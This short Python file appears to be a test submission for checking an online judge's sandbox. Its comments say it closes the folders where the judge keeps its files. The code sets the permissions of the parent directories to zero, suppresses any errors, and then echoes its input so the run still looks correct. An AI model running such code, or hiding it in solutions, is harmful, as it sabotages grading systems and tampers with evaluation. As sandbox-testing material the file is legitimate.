# Closes the folders that the judge keeps all of its files in.
# sandbox: AC
# without: AC
# portable: dangerous
# leaves: a closed folder
import contextlib
import os

for folder in ("../..", "../../.."):
    with contextlib.suppress(OSError):
        os.chmod(folder, 0)
print(input())
